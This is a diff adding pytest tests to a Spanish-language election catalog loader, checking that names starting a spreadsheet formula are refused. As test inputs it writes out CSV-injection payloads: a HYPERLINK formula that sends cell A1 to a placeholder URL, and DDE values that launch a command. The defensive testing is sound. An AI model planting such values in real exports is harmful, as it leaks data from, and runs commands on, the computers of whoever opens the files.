@@ -3,6 +3,8 @@ file, which line and what is wrong; nothing half-valid is ever loaded."""
 
 from __future__ import annotations
 
+import subprocess
+import sys
 from collections.abc import Callable
 from pathlib import Path
 
@@ -12,8 +14,11 @@ import prep.catalog.files as catalog_files
 from prep.catalog import (
     Catalog,
     CatalogError,
+    generate_catalog,
     load_catalog,
+    write_catalog,
 )
+from prep.catalog.cells import formula_start
 from tests.prep.catalog_edits import rows_of, set_cell, sin_nombre_de_entidad, write_rows
 
 # ----------------------------------------------------------------------------- validation
@@ -245,3 +250,61 @@ def test_blank_lines_are_ignored(small: Catalog, copia: Path) -> None:
     assert load_catalog(copia).casillas_ordenadas == small.casillas_ordenadas
 
 
+
+
+# ----------------------------------------------------------- spreadsheet formulas (issue 36)
+
+_HYPERLINK = '=HYPERLINK("https://example.invalid/?d="&A1,"Resultados")'
+
+
+@pytest.mark.parametrize(("name", "column", "value", "shown"), [
+    ("asociaciones.csv", "NOMBRE", _HYPERLINK, "«=»"),
+    ("candidaturas.csv", "PROPIETARIA", "+1+cmd|' /C calc'!A0", "«+»"),
+    ("candidaturas.csv", "SUPLENTE", "-2+3", "«-»"),
+    ("distritos.csv", "CABECERA", "@SUM(1+1)*cmd|' /C calc'!A0", "«@»"),
+    ("asociaciones.csv", "NOMBRE", "\t=1+1", "«=»"),  # the tab is trimmed, the = is not
+    ("candidaturas.csv", "PROPIETARIA", "\uff1dHYPERLINK(1)", "«\uff1d»"),
+])
+def test_a_name_that_would_start_a_formula_is_refused_naming_file_line_and_field(
+        copia: Path, name: str, column: str, value: str, shown: str) -> None:
+    set_cell(copia, name, 3, column, value)
+    with pytest.raises(CatalogError) as info:
+        load_catalog(copia)
+    message = str(info.value)
+    assert message.startswith(f"{name}: línea 3: el campo {column} "), message
+    assert f"empieza con {shown}" in message and "fórmula" in message
+    assert "Quite ese carácter del inicio" in message
+
+
+def test_a_catalogo_toml_name_that_would_start_a_formula_is_refused_with_its_line(
+        copia: Path) -> None:
+    path = copia / "catalogo.toml"
+    lines = path.read_text(encoding="utf-8").splitlines()
+    n = next(i for i, line in enumerate(lines) if line.startswith("nombre = ") and i > 5)
+    lines[n] = 'nombre = "=HYPERLINK(\\"https://example.invalid\\")"'
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    with pytest.raises(CatalogError) as info:
+        load_catalog(copia)
+    assert str(info.value).startswith(f"catalogo.toml: línea {n + 1}: el campo ["), info.value
+    assert "nombre" in str(info.value) and "empieza con «=»" in str(info.value)
+
+
+def test_the_generated_catalog_has_no_name_that_needs_refusing(tmp_path: Path) -> None:
+    """No real party, coalition or candidate name starts with -, =, + or @: the full
+    synthetic CDMX catalog loads as it is."""
+    write_catalog(generate_catalog(), tmp_path / "cdmx")
+    catalog = load_catalog(tmp_path / "cdmx")
+    names = [c.propietaria for c in catalog.candidaturas] + [
+        c.suplente for c in catalog.candidaturas] + [
+        a.nombre for e in catalog.elecciones for a in e.asociaciones] + [
+        d.cabecera for d in catalog.distritos]
+    assert names and not [n for n in names if formula_start(n)]
+
+
+def test_catalog_check_shows_the_refusal_in_spanish(copia: Path) -> None:
+    set_cell(copia, "asociaciones.csv", 2, "NOMBRE", _HYPERLINK)
+    done = subprocess.run([sys.executable, "-m", "prep", "catalog", "check", str(copia)],
+                          capture_output=True, text=True, timeout=60, check=False)
+    assert done.returncode != 0
+    assert "asociaciones.csv: línea 2: el campo NOMBRE" in done.stderr, done.stderr
+    assert "Traceback" not in done.stderr
